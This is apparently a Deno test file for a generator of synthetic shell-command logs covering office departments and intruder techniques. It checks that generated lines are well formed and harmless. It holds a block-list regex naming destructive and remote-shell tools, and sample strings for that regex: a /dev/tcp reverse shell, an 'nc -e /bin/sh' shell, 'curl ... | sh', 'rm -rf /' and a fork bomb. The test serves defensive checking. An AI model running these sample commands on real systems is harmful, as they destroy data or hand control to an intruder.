import {
  assert,
  assertAlmostEquals,
  assertEquals,
  assertGreaterOrEqual,
  assertLess,
  assertMatch,
  assertThrows,
} from "@std/assert";
import { type Department, DEPARTMENTS } from "../src/core/log/events.ts";
import { stream } from "../src/core/random/rng.ts";
import {
  type CommandLists,
  fillTemplate,
  moves,
  templateOf,
  type Things,
  thingsOf,
  vocabularyOf,
} from "../src/core/shell_commands/catalog.ts";
import { FILLINGS, OFFICE_FILLINGS } from "../src/core/shell_commands/fillings.ts";
import { TECHNIQUE_COMMANDS } from "../src/core/shell_commands/techniques.ts";
import { LISTS, SHELL_DEPARTMENTS } from "./shell_commands_kit.ts";

/** Every template of a department, `cd` and `ls` too. */
function templatesOf(dept: Department): string[] {
  return [moves(), vocabularyOf(dept)].flatMap(({ templates }) =>
    templates.map(({ text }) => text)
  );
}

const PLACEHOLDER = /\{([a-z]+)\}/g;

const TEMPLATES = new Set([
  ...DEPARTMENTS.flatMap(templatesOf),
  ...Object.values(TECHNIQUE_COMMANDS).flat(),
]);

Deno.test("no department has a template twice, and no list an entry", () => {
  for (const dept of DEPARTMENTS) {
    assertEquals(new Set(templatesOf(dept)).size, templatesOf(dept).length);
  }
  for (const [name, list] of [...FILLINGS, ...OFFICE_FILLINGS]) {
    assertEquals(new Set(list).size, list.length, name);
  }
  for (const [id, list] of Object.entries(TECHNIQUE_COMMANDS)) {
    assertEquals(new Set(list).size, list.length, id);
  }
});

Deno.test("weights are positive and failure rates between 0 and 1", () => {
  for (const dept of DEPARTMENTS) {
    for (const { text, weight, failureRate, failsWith } of vocabularyOf(dept).templates) {
      assert(weight > 0 && failureRate >= 0 && failureRate <= 1, text);
      assert(Number.isInteger(failsWith) && failsWith >= 0 && failsWith <= 255, text);
    }
    const total = vocabularyOf(dept).templates.reduce((sum, { weight }) => sum + weight, 0);
    if (SHELL_DEPARTMENTS.includes(dept)) assertAlmostEquals(total, 1, 1e-9);
  }
});

Deno.test("every placeholder is known and every list used", () => {
  const used = [...TEMPLATES].flatMap((t) => [...t.matchAll(PLACEHOLDER)].map(([, name]) => name!));
  assertEquals(new Set(used).symmetricDifference(new Set(thingsOf("IT", LISTS).keys())), new Set());
});

/** Harm, and ways out of the company. */
const BANNED =
  /rm -rf? *[/~*]|rm -r?f? *\/|mkfs|\bdd +if=|:\(\) *\{|\/dev\/(tcp|udp)|nc .*-[ec]\b|base64 -d|\| *(ba|z)?sh\b|chmod -R 777|> *\/dev\/sd|shutdown|drop (table|database)/i;
/** What looks like a name in the public domain name system. */
const DOMAIN =
  /\b[a-z0-9-]+(?:\.[a-z0-9-]+)*\.(?:com|net|org|io|dev|cloud|co|ai|app|gov|edu|info)\b/g;
/** A host after `://` or `@`. */
const HOST = /(?:[a-z]+:\/\/|@)([a-z0-9.-]+)/g;

/** Lines that show each template and each entry of each list at least once, and the longest line of each. */
function allLines(): string[] {
  return [...linesWith(thingsOf("IT", LISTS)), ...linesWith(thingsOf("HR", LISTS))];
}

function linesWith(things: Things): string[] {
  return [...TEMPLATES].flatMap((text) => {
    const longest = Math.max(
      ...[...text.matchAll(PLACEHOLDER)].map(([, name]) => things.get(name!)!.length),
      1,
    );
    const byLength = new Map(
      [...things].map(([name, list]) => [name, list.toSorted((a, b) => b.length - a.length)]),
    );
    return Array.from({ length: longest }, (_, i) =>
      text.replace(PLACEHOLDER, (_, name) => {
        const list = byLength.get(name)!;
        return list[i % list.length]!;
      }));
  });
}

Deno.test("lines are printable ASCII, below 160 characters, harmless and name nobody's domain", () => {
  for (const line of allLines()) {
    assertMatch(line, /^[\x21-\x7e](?:[\x20-\x7e]*[\x21-\x7e])?$/);
    assertLess(line.length, 160, line);
    assert(!BANNED.test(line), line);
    for (const [domain] of line.matchAll(DOMAIN)) assertMatch(domain, /\bexample\.(com|net|org)$/);
    for (const [, host = ""] of line.matchAll(HOST)) {
      const isBucket = line.includes(`s3://${host}`);
      assert(isBucket || /^(localhost|169\.254\.169\.254|.*\.internal)$/.test(host), line);
    }
  }
});

Deno.test("the checks for harm and domains see what they are for", () => {
  for (
    const bad of [
      ...["rm -rf /", "rm -rf ~", "mkfs.ext4 /dev/sdb", "dd if=/dev/zero of=x", ":(){ :|:& };:"],
      ...["bash -i >& /dev/tcp/10.0.0.1/9", "nc 10.0.0.1 9 -e /bin/sh", "curl x.internal | sh"],
    ]
  ) assert(BANNED.test(bad), bad);
  assertEquals("curl https://a.b.com/x README.md x.sh".match(DOMAIN), ["a.b.com"]);
});

Deno.test("what intruders type is ordinary: .95 of the templates of each technique", () => {
  for (const [id, texts] of Object.entries(TECHNIQUE_COMMANDS)) {
    const ordinary = texts.filter((text) => templateOf(text)?.text === text).length;
    assertGreaterOrEqual(ordinary / texts.length, 0.95, id);
    assertGreaterOrEqual(texts.length, 5, id);
  }
});

Deno.test("fillTemplate() takes everything from the lists, the same for the same name", () => {
  const rng = stream("shell", "fill");
  const line = fillTemplate(rng, "scp {host}:/tmp/{host} s3://{bucket}/ {user} {database}", LISTS);
  assertMatch(
    line,
    /^scp (app-\d\d\.prod\.shadownet\.internal):\/tmp\/\1 s3:\/\/shadownet-team-\d+\/ emp_\d+ db_\d+$/,
  );
  assertEquals(fillTemplate(rng, "awk '{print $1}'", LISTS), "awk '{print $1}'");
  const fails = (text: string, lists: CommandLists) => () => fillTemplate(rng, text, lists);
  assertThrows(fails("cat {nothing}", LISTS), RangeError, "Cannot fill {nothing}");
  assertThrows(fails("ssh {host}", { ...LISTS, hosts: [] }), RangeError, "Cannot fill {host}");
});
